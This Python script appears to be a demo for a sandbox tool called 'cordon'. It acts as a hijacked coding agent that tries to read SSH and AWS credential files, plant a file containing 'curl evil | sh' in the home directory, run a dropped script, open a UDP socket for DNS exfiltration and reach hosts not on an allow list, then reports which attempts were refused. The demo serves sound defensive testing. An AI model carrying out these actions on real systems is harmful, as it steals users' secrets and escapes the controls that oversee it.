#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A stand-in for a coding agent: it does its job in the workspace, then tries what a
misbehaving or hijacked agent would. Run it under cordon and read which attempts the
kernel refused; run it without cordon to see the same attempts succeed.

    cordon run --policy examples/policies/default.json -- python3 demo_agent.py
"""
import os
import socket
import subprocess
import sys
import urllib.request

home = os.path.expanduser("~")
results = []


def attempt(what, fn):
    try:
        detail = fn()
        results.append((what, "allowed", detail or ""))
    except OSError as e:
        if e.strerror:
            results.append((what, "refused", f"{e.strerror} (errno {e.errno})"))
        else:  # urllib: the proxy's answer, or why the connection failed
            results.append((what, "refused", str(getattr(e, "reason", e))))


def write_workspace():
    with open("agent-output.txt", "w") as f:
        f.write("work product\n")
    return os.path.abspath("agent-output.txt")


def read_file(path):
    def go():
        with open(path, "rb") as f:
            return f"read {len(f.read())} bytes"
    return go


def write_outside():
    with open(os.path.join(home, ".bashrc-planted"), "w") as f:
        f.write("curl evil | sh\n")


def run_dropped_script():
    path = os.path.abspath("dropped.sh")
    with open(path, "w") as f:
        f.write("#!/bin/sh\necho pwned\n")
    os.chmod(path, 0o755)
    out = subprocess.run([path], capture_output=True, check=True)
    return out.stdout.decode().strip()


def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.close()
    return "UDP socket created"


def fetch(url):
    def go():
        with urllib.request.urlopen(url, timeout=15) as r:
            return f"HTTP {r.status}, {len(r.read())} bytes"
    return go


def tcp_direct():
    s = socket.create_connection(("127.0.0.1", 22), timeout=2)
    s.close()
    return "connected to 127.0.0.1:22"


attempt("write a file in the workspace", write_workspace)
attempt("read /etc/os-release", read_file("/etc/os-release"))
attempt("read ~/.ssh/id_rsa", read_file(os.path.join(home, ".ssh", "id_rsa")))
attempt("read ~/.aws/credentials", read_file(os.path.join(home, ".aws", "credentials")))
attempt("plant a file in the home directory", write_outside)
attempt("run a script it wrote to the workspace", run_dropped_script)
attempt("open a UDP socket (DNS exfiltration)", udp_dns)
attempt("connect straight to 127.0.0.1:22", tcp_direct)
attempt("fetch https://registry.npmjs.org/ (on the allow list)", fetch("https://registry.npmjs.org/"))
attempt("fetch https://example.com/ (not on the allow list)", fetch("https://example.com/"))

width = max(len(w) for w, _, _ in results)
for what, verdict, detail in results:
    print(f"  {what:<{width}}  {verdict:<8} {detail}")
sys.exit(0)
